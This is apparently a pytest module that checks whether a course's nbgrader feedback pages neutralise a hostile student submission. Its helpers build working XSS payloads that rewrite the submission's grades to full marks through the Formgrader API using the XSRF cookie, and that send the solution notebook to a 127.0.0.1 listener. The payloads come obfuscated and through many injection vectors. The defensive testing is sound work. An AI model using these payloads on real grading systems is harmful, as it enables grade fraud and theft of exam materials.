"""Student text in pages: a hostile submission's markdown and outputs come out of `nbgrader generate_feedback`
inert, with charts as images and hidden tests hidden (no browser; tests/test_formgrader_xss.py opens the
Formgrader in Chromium).

One submission of the Argentina case carries every payload kind below (markdown_payloads, output_code): in
its written answer, in a markdown and a raw cell it added, and in outputs its code displays. It is graded for real (`nbgrader
autograde`, sandboxed) on a throwaway copy of the course, then its feedback page is made twice: by stock
nbgrader (DPDLAB_STOCK_NBGRADER=1), where the payloads are live, and with the course's configuration,
where none is. Every payload holds a marker ``dpd-<kind>`` in the part of it that would run.
"""
from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from dpdlab import charts, grading, release, site
from dpdlab import svg as svg_module
from dpdlab.grading import sanitize

A = "argentina_account_handover"
NB = f"{A}.ipynb"
STUDENT = "hostile"
# The sandbox user of this module's autograde run: not one other modules use.
SANDBOX_UID = 64260
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")


# -- the payloads --------------------------------------------------------------------------------------------
def action(kind: str, port: int) -> str:
    """JavaScript a payload runs if it ever runs: it records itself and renames the page, gives its
    submission full marks through the Formgrader's API with the session's XSRF cookie, and sends the source
    notebook (solutions and hidden tests) to a listener on 127.0.0.1:``port``. Its addresses are absolute, so
    that a <base> another payload sets cannot send them elsewhere."""
    return ("(function(k){window.__dpdPwned=(window.__dpdPwned||[]).concat(k);document.title='PWNED '+k;"
            "var o=location.origin,x=(document.cookie.match(/_xsrf=([^;]*)/)||[])[1];"
            "fetch(o+'/formgrader/api/grades?submission_id='+window.submission_id).then(function(r){return r.json()})"
            ".then(function(gs){gs.forEach(function(g){fetch(o+'/formgrader/api/grade/'+g.id,{method:'PUT',"
            "headers:{'X-XSRFToken':x,'Content-Type':'application/json'},"
            "body:JSON.stringify({manual_score:g.max_score,extra_credit:9})})})});"
            f"fetch(o+'/api/contents/source/{A}/{NB}').then(function(r){{return r.text()}})"
            f".then(function(t){{fetch('http://127.0.0.1:{port}/source-'+k,{{method:'POST',mode:'no-cors',body:t}})}});"
            f"new Image().src='http://127.0.0.1:{port}/image-'+k}})('dpd-{kind}')")


def js(kind: str, port: int) -> str:
    """The action as a one-line expression without quotes of its own (for attributes and URLs), with the
    marker in clear after it."""
    encoded = base64.b64encode(action(kind, port).encode()).decode()
    return f"eval(atob('{encoded}'))//dpd-{kind}"


def svg(kind: str, port: int) -> str:
    """An SVG image that runs the action when drawn inline: an onload handler and a script element."""
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" onload="{js(kind, port)}">'
            f'<script>{js(kind + "-script", port)}</script><rect width="120" height="40" fill="#0072B2"/></svg>')


def markdown_payloads(port: int) -> dict[str, str]:
    """Payloads a student can write in a markdown cell, by kind."""
    frame = f'<img src=x onerror="parent.{js("iframe-srcdoc", port)}">'.replace('"', "&quot;")
    page = base64.b64encode(f"<script>{js('data-page', port)}</script>".encode()).decode()
    return {
        "script": f"<script>{js('script', port)}</script>",
        "img-onerror": f'<img src="x" onerror="{js("img-onerror", port)}">',
        "svg-onload": f'<svg onload="{js("svg-onload", port)}"><circle r="4"/></svg>',
        "details-ontoggle": f'<details open ontoggle="{js("details-ontoggle", port)}"><summary>more</summary>text</details>',
        "input-autofocus": f'<input autofocus onfocus="{js("input-autofocus", port)}">',
        "javascript-link": f'<a href="javascript:{js("javascript-link", port)}">jslink</a>',
        "entity-link": f'<a href="jav&#x09;ascript:{js("entity-link", port)}">entlink</a>',
        "markdown-link": f"[mdlink](javascript:{js('markdown-link', port)})",
        "data-link": f'<a href="data:text/html;base64,{page}" title="dpd-data-link">datalink</a>',
        "iframe-srcdoc": f'<iframe srcdoc="{frame}" title="dpd-iframe-srcdoc"></iframe>',
        "object-embed": (f'<object data="data:text/html;base64,{page}" name="dpd-object-embed"></object>'
                         f'<embed src="data:text/html;base64,{page}" title="dpd-object-embed">'),
        "form": (f'<form action="http://127.0.0.1:{port}/dpd-form" method="post"><input name="q" value="1">'
                 f'<button>formbutton</button></form>'),
        "meta-refresh": f'<meta http-equiv="refresh" content="30;url=http://127.0.0.1:{port}/dpd-meta-refresh">',
        "base-href": f'<base href="http://127.0.0.1:{port}/dpd-base-href/">',
        "style-exfiltration": (f"<style>@import url(http://127.0.0.1:{port}/dpd-style-exfiltration.css);"
                               f"body {{ background: url(http://127.0.0.1:{port}/dpd-style-exfiltration.png) }}</style>"),
    }


ORDINARY = f"""## My protocol

**Scope.** The protocol covers *every* official account. See [the archive guide](https://example.org/guide)
or write to <mailto:desk@example.org>.

| step | who |
|:-----|----:|
| archive the posts | ministry |

- keep the handle
- hand over the password

Run `archive()` first. ![a blue dot](data:image/png;base64,{PNG})
"""


def output_code(port: int) -> str:
    """Code that displays hostile outputs (appended to an answer cell, after its correct answer)."""
    html_output = f'<script>{js("html-output", port)}</script><img src="x" onerror="{js("html-output", port)}">'
    markdown_output = f'**bold output** <img src="x" onerror="{js("markdown-output", port)}">'
    chart_html = f'<figure class="dpdlab-chart" role="img" aria-label="Chart: Fake.">{svg("chart-html", port)}</figure>'
    widget = {"model_id": "dpd-widget-view", "version_major": 2, "version_minor": 0}
    bundles = [  # (data, metadata) of display_data outputs
        ({"text/html": html_output}, {}),
        ({"application/javascript": js("javascript-output", port)}, {}),
        ({"image/svg+xml": svg("svg-output", port), "text/plain": "Chart: Hostile chart. It tries to run script when drawn."}, {}),
        ({"text/html": chart_html, "image/svg+xml": svg("chart-svg", port),
          "text/plain": "Chart: Inline chart. Its HTML inlines an SVG with a handler."}, {}),
        ({"text/markdown": markdown_output, "text/plain": "markdown"}, {}),
        ({"application/vnd.jupyter.widget-view+json": widget, "text/plain": "VBox(children=(IntSlider(value=1),))"}, {}),
        # nbconvert writes an image's width unquoted: a space in it starts a new attribute
        ({"image/png": PNG, "text/plain": "a dot"}, {"image/png": {"width": "1 onload=" + js("png-width", port)}}),
    ]
    lines = ["from IPython.display import display"]
    lines += [f"display({json.dumps(data)}, metadata={json.dumps(metadata)}, raw=True)" for data, metadata in bundles]
    return "\n".join(lines)


# Where each payload kind goes, and whether stock nbgrader's feedback page leaves it live (a script, a
# handler, an active URL or an element that loads, embeds, submits or restyles).
OUTPUT_KINDS = ["html-output", "javascript-output", "svg-output", "svg-output-script", "chart-html",
                "chart-html-script", "markdown-output", "widget-view", "png-width"]
STOCK_LIVE = {"script", "img-onerror", "svg-onload", "details-ontoggle", "input-autofocus", "javascript-link",
              "entity-link", "markdown-link", "data-link", "iframe-srcdoc", "object-embed", "form", "meta-refresh",
              "base-href", "style-exfiltration", "html-output", "javascript-output", "chart-html",
              "chart-html-script", "markdown-output", "png-width"}
# Inert in stock feedback too: nbconvert writes an output that is only SVG as an <img>, shows a widget view
# whose model the notebook does not hold as its text, and escapes raw cells (bleach).
STOCK_INERT = {"svg-output", "svg-output-script", "widget-view", "raw-cell"}


def hostile_notebook(course: Path, port: int) -> dict:
    """The Argentina case answered correctly, with every payload kind added."""
    released = json.loads((course / "release" / A / NB).read_text(encoding="utf-8"))
    source = json.loads((course / "source" / A / NB).read_text(encoding="utf-8"))
    notebook = grading.answered(released, source)
    payloads = markdown_payloads(port)
    in_answer = list(payloads)[:8]  # the rest go into a markdown cell the student added
    cells = notebook["cells"]
    written = next(c for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "q6-written")
    written["source"] = ORDINARY + "\n\n" + "\n\n".join(payloads[k] for k in in_answer)
    added = {"cell_type": "markdown", "id": "student-added", "metadata": {},
             "source": "\n\n".join(v for k, v in payloads.items() if k not in in_answer)}
    raw = {"cell_type": "raw", "id": "student-raw", "metadata": {},
           "source": f"<script>{js('raw-cell', port)}</script><img src=x onerror=\"{js('raw-cell', port)}\">"}
    cells[cells.index(written) + 1:cells.index(written) + 1] = [added, raw]
    answer = next(c for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "q5-answer")
    answer["source"] = "".join(answer["source"]) + "\n" + output_code(port)
    return notebook


def graded_course(root: Path, port: int, uid: int) -> Path:
    """A throwaway course with the hostile submission graded by `nbgrader autograde` (sandboxed as ``uid``)."""
    course = release.copy_course(root / "course", assignments=[a for a in release.manifest() if a.id == A])
    with open(course / "nbgrader_config.py", "a", encoding="utf-8") as config:
        config.write(f"\nc.SandboxedKernelManager.uid = {uid}\n")
    release.run_nbgrader(["generate_assignment", A, "--force"], course)
    folder = course / "submitted" / STUDENT / A
    folder.mkdir(parents=True)
    (folder / NB).write_text(json.dumps(hostile_notebook(course, port), indent=1), encoding="utf-8")
    (folder / "timestamp.txt").write_text("2026-03-01 10:00:00.000000 UTC")
    release.run_nbgrader(["autograde", A, "--force"], course)
    return course


# -- reading a page ------------------------------------------------------------------------------------------
JS_TYPES = {"", "text/javascript", "application/javascript", "module"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster"}
ACTIVE_TAGS = {"iframe", "frame", "object", "embed", "form", "base", "link", "svg", "math", "input", "button"}


class LiveParts(HTMLParser):
    """What of a page could run or load: scripts, handlers, active URLs, and elements that load, embed,
    submit or restyle. Each part is its text (tag, attributes, content) for searching markers in."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self._open: str | None = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        text = f"<{tag} {attributes}>"
        if tag == "script" and (attributes.get("type") or "").lower() in JS_TYPES | {"application/vnd.jupyter.widget-view+json"}:
            self._open = text
        elif tag == "style":
            self._open = text
        elif tag in ACTIVE_TAGS:
            self.parts.append(text)
        elif tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.parts.append(text)
        for name, value in attrs:
            compact = re.sub(r"[\x00-\x20]+", "", value or "").lower()
            if name.startswith("on") or name == "srcdoc":
                self.parts.append(f"{text} {name}")
            elif name in URL_ATTRIBUTES and compact.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.parts.append(f"{text} {name}")

    def handle_data(self, data):
        if self._open is not None:
            self.parts.append(self._open + data)
            self._open = None

    def handle_endtag(self, tag):
        if tag in {"script", "style"} and self._open is not None:
            self.parts.append(self._open)
            self._open = None


def live_parts(page: str) -> list[str]:
    parser = LiveParts()
    parser.feed(page)
    return parser.parts


def live_kinds(page: str) -> set[str]:
    """The payload kinds whose marker is in a live part of ``page``."""
    kinds = set(markdown_payloads(0)) | set(OUTPUT_KINDS) | STOCK_INERT
    found = "\n".join(live_parts(page))
    return {k for k in kinds if re.search(rf"dpd-{re.escape(k)}(?![\w-])", found)}


def page_text(page: str) -> str:
    """The text of a page, tags taken out."""
    class Text(HTMLParser):
        def __init__(self):
            super().__init__()
            self.chunks: list[str] = []

        def handle_data(self, data):
            self.chunks.append(data)

    parser = Text()
    parser.feed(page)
    return "".join(parser.chunks)


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """The hostile student's feedback page made by stock nbgrader, then with the course's configuration."""
    course = graded_course(tmp_path_factory.mktemp("sanitize"), port=9, uid=SANDBOX_UID)
    page = course / "feedback" / STUDENT / A / f"{A}.html"
    release.run_nbgrader(["generate_feedback", A, "--force"], course, env={"DPDLAB_STOCK_NBGRADER": "1"})
    stock = page.read_text(encoding="utf-8")
    grading.feedback(A, course=course)
    return {"course": course, "stock": stock, "ours": page.read_text(encoding="utf-8")}


pytestmark = pytest.mark.grading


# -- the feedback page, for real -----------------------------------------------------------------------------
def test_stock_nbgrader_leaves_the_payloads_live(pages):
    assert live_kinds(pages["stock"]) == STOCK_LIVE


def test_feedback_page_holds_no_script_no_handler_and_no_active_url(pages):
    ours = pages["ours"]
    assert not live_kinds(ours)
    parts = live_parts(ours)
    assert not [p for p in parts if p.startswith("<script")], "a feedback page needs no script at all"
    assert not [p for p in parts if not p.startswith("<style")], parts  # only nbgrader's own stylesheets
    assert not [p for p in parts if "127.0.0.1" in p or "dpd-" in p]
    values = [re.sub(r"[\x00-\x20]+", "", value or "").lower()
              for item in structure(ours) if isinstance(item, tuple) for _, value in item[1]]
    assert not [v for v in values if "javascript:" in v or "data:text/html" in v]


def test_feedback_page_carries_a_policy_that_allows_no_script(pages):
    head = pages["ours"].split("</head>", 1)[0]
    policy = re.search(r'<meta content="([^"]+)" http-equiv="Content-Security-Policy"', head) or \
        re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', head)
    assert policy and policy.group(1) == sanitize.FEEDBACK_POLICY
    assert "script-src 'none'" in policy.group(1) and "default-src 'none'" in policy.group(1)
    assert head.index("Content-Security-Policy") < head.index("<style")  # before anything it governs


def test_charts_are_images_with_their_text_alternative_and_visible_description(pages):
    ours = pages["ours"]
    figures = re.findall(r'<figure class="dpdlab-chart-image"[^>]*><img alt="([^"]*)" src="data:image/svg\+xml;base64,'
                         r'[A-Za-z0-9+/=]+"[^>]*/?><figcaption>([^<]*)</figcaption></figure>', ours)
    graded = json.loads((pages["course"] / "autograded" / STUDENT / A / NB).read_text(encoding="utf-8"))
    charts = [o["data"] for c in graded["cells"] if c["cell_type"] == "code" for o in c.get("outputs", [])
              if "image/svg+xml" in o.get("data", {}) or svg_module.MIMETYPE in o.get("data", {})]
    assert len(charts) >= 4 and len(figures) == len(charts)  # the case's own charts and the two hostile ones
    for alt, caption in figures:
        assert alt.startswith("Chart: ") and caption and caption in alt
    assert ("Chart: Hostile chart. It tries to run script when drawn.", "It tries to run script when drawn.") in figures
    assert "<svg" not in ours  # no inline SVG: the course charts' own text/html is gone too


def test_the_students_ordinary_formatting_survives(pages):
    ours = pages["ours"]
    assert re.search(r"<h2[^>]*>My protocol", ours)
    assert "<strong>Scope.</strong>" in ours and "<em>every</em>" in ours
    assert re.search(r'<a href="https://example.org/guide" [^>]*rel="noopener noreferrer"', ours) or \
        re.search(r'<a [^>]*href="https://example.org/guide"[^>]*rel="noopener noreferrer"', ours)
    assert 'href="mailto:desk@example.org"' in ours
    assert re.search(r'<th style="text-align:\s*left">step</th>', ours)
    assert "<li>keep the handle</li>" in ours and "<code>archive()</code>" in ours
    assert f'src="data:image/png;base64,{PNG}"' in ours and 'alt="a blue dot"' in ours
    assert "<strong>bold output</strong>" in ours  # a text/markdown output, rendered and cleaned
    assert "VBox(children=(IntSlider(value=1),))" in ours  # a widget view shows as its text
    assert "jslink" in ours and "formbutton" in ours  # the text of dropped elements stays, inert


def test_hidden_tests_are_still_hidden(pages):
    ours = pages["ours"]
    assert "BEGIN HIDDEN TESTS" not in ours and "hidden tests:" in ours
    source = json.loads((pages["course"] / "source" / A / NB).read_text(encoding="utf-8"))
    text = page_text(ours)
    for cell in source["cells"]:
        lines = "".join(cell["source"]).splitlines()
        if "### BEGIN HIDDEN TESTS" in [l.strip() for l in lines]:
            begin = [l.strip() for l in lines].index("### BEGIN HIDDEN TESTS")
            hidden = [l.strip() for l in lines[begin + 1:] if l.strip() and not l.startswith("###")]
            # the reasoning ("# Why:" lines) is shown on purpose; the tests themselves never are
            reasons = [l for l in hidden if l.startswith("# Why:")]
            tests = [l for l in hidden if not l.startswith("# Why:")]
            assert tests and not [l for l in tests if l in text]
            assert all(l in text for l in reasons)


# -- the sanitising step on its own ----------------------------------------------------------------------
@pytest.mark.parametrize("kind", sorted(markdown_payloads(9)))
def test_markdown_payload_is_inert_after_cleaning(kind):
    cleaned = sanitize.clean_html(markdown_payloads(9)[kind])
    assert not live_kinds(cleaned) and not live_parts(cleaned), cleaned
    assert "127.0.0.1" not in cleaned


def structure(fragment: str) -> list:
    """The tags of an HTML fragment with their attributes in a fixed order (nh3 writes them in any order)."""
    class Tags(HTMLParser):
        def __init__(self):
            super().__init__()
            self.found: list = []

        def handle_starttag(self, tag, attrs):
            self.found.append((tag, sorted(attrs)))

        def handle_data(self, data):
            self.found.append(data)

    parser = Tags()
    parser.feed(fragment)
    return parser.found


def test_cleaning_twice_changes_nothing():
    fragment = sanitize.clean_html(ORDINARY.replace("\n", "<br>") + "".join(markdown_payloads(9).values()))
    assert structure(sanitize.clean_html(fragment)) == structure(fragment)
    bundle = sanitize.clean_bundle({"text/html": "<b>x</b>", "image/svg+xml": svg("x", 9), "text/plain": "Chart: T. D."})
    assert sanitize.clean_bundle(dict(bundle)) == bundle


def test_links_keep_only_web_and_mail_addresses_and_open_apart():
    cleaned = sanitize.clean_html('<a href="https://a.org/x">a</a><a href="rel.html">b</a><a href="#top">c</a>'
                                  '<a href=" mailto:x@y.org">d</a><a href="ftp://a.org">e</a>')
    assert cleaned.count("href=") == 2 and 'href="https://a.org/x"' in cleaned
    assert cleaned.count('rel="noopener noreferrer"') == 5 and cleaned.count('target="_blank"') == 5


def test_images_keep_only_raster_data_and_files_beside_the_notebook():
    sources = {f"data:image/png;base64,{PNG}": True, f"data:image/jpeg;base64,{PNG}": True, "figure.png": True,
               "images/figure.png": True, "data:image/svg+xml;base64,AAAA": False, "data:text/html,x": False,
               "http://127.0.0.1:9/x.png": False, "//evil.example/x.png": False, "/api/contents": False,
               "../../source/x.png": False, "javascript:alert(1)": False}
    for src, kept in sources.items():
        assert ("src=" in sanitize.clean_html(f'<img src="{src}" alt="x">')) is kept, src


def test_ids_are_prefixed_and_classes_limited_to_code_and_tables():
    cleaned = sanitize.clean_html('<h2 id="q6-written">x</h2><span class="k navbar-fixed-top">y</span>'
                                  '<table class="dataframe modal"></table><div class="hidden" style="display:none">z</div>')
    assert 'id="user-content-q6-written"' in cleaned and 'class="k"' in cleaned
    assert 'class="dataframe"' in cleaned and "hidden" not in cleaned and "display" not in cleaned


def test_outputs_keep_text_and_raster_images_and_drop_active_types():
    assert sanitize.clean_bundle({"application/javascript": "x()"}) == {
        "text/plain": sanitize.MESSAGES["dropped_output"].format(mimetypes="application/javascript")}
    kept = sanitize.clean_bundle({"image/png": PNG, "text/plain": "p", "text/latex": "$x$",
                                  "application/vnd.jupyter.widget-view+json": {"model_id": "m"}})
    assert kept == {"image/png": PNG, "text/plain": "p"}
    assert sanitize.clean_bundle({"text/markdown": "**b** <script>x()</script>"}) == {
        "text/html": "<p><strong>b</strong> </p>\n"}


def test_image_sizes_must_be_numbers():
    output = {"output_type": "display_data", "data": {"image/png": PNG},
              "metadata": {"image/png": {"width": "1 onload=x()", "height": 20, "alt": "dot"},
                           "filenames": {"image/png": "x.png"}}}
    assert sanitize.clean_output(output)["metadata"] == {"image/png": {"height": 20, "alt": "dot"}}


def test_a_chart_without_the_course_format_shows_its_whole_text():
    figure = sanitize.chart_figure("<svg></svg>", 'plain "quoted" <text>')
    assert 'alt="plain &quot;quoted&quot; &lt;text&gt;"' in figure
    assert "<figcaption>plain &quot;quoted&quot; &lt;text&gt;</figcaption>" in figure


def test_policy_gives_the_nonce_to_nbgraders_own_scripts_only():
    frame = ('<html><head><meta charset="utf-8"><script src="/formgrader/static/a.js"></script>'
             '<script>var submission_id = "s";</script><script src="https://cdn.example/m.js"></script></head>'
             '<body><span onclick="toggle(true);"></span></body></html>')
    page = frame.replace("</body>", '<script>evil()</script><script src="/formgrader/submissions/s/evil.js">'
                                    '</script><img src=x onerror="evil()"></body>')
    result = sanitize.with_policy(page, frame, {"submission_id": "s"})
    nonce = re.search(r"'nonce-([^']+)'", result).group(1)
    assert result.count(f'nonce="{nonce}"') == 3  # two of nbgrader's, and the MathJax stand-in
    assert "<script>evil()</script>" in result and 'evil.js"></script>' in result  # present, never allowed
    assert "cdn.example" not in result and "'unsafe-hashes'" in result
    assert sanitize._sha256("toggle(true);") in result and sanitize._sha256("evil()") not in result
    assert result.index("Content-Security-Policy") < result.index("<script")
    other = sanitize.with_policy(page, frame, {"submission_id": "s"})
    assert re.search(r"'nonce-([^']+)'", other).group(1) != nonce  # a nonce per page


def test_feedback_policy_removes_nbgraders_scripts():
    frame = '<html><head><meta charset="utf-8"><script src="https://cdn.example/m.js"> </script></head><body></body></html>'
    result = sanitize.with_policy(frame, frame, {"nbgrader": {}})
    assert "<script" not in result and sanitize.FEEDBACK_POLICY.replace("'", "&#x27;") not in result
    assert f'content="{sanitize.FEEDBACK_POLICY}"' in result


# -- the course website's policy (its pages show the course's own notebooks, not student text) ----------
def test_website_pages_carry_a_policy_that_allows_no_script_and_nothing_from_a_server():
    chart = charts.figure_html("<svg width='10' height='10'></svg>", "Chart: T. D.")
    notebook = {"cells": [{"cell_type": "code", "execution_count": 1, "id": "c", "metadata": {}, "source": "x",
                           "outputs": [{"output_type": "display_data", "metadata": {},
                                        "data": {"text/html": chart, "text/plain": "Chart: T. D."}}]}],
                "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    pages = [site.page_html(nbformat.from_dict(notebook), "page"), site.index_html([("page.html", {"title": "P"})])]
    for page in pages:
        head = page.split("</head>", 1)[0]
        assert site.POLICY.replace("'", "&#x27;") in head or site.POLICY in head
        assert head.index("Content-Security-Policy") < head.index("<style")
        assert "script-src 'none'" in site.POLICY and "default-src 'none'" in site.POLICY
    assert "<svg" in pages[0]  # the site keeps its charts inline
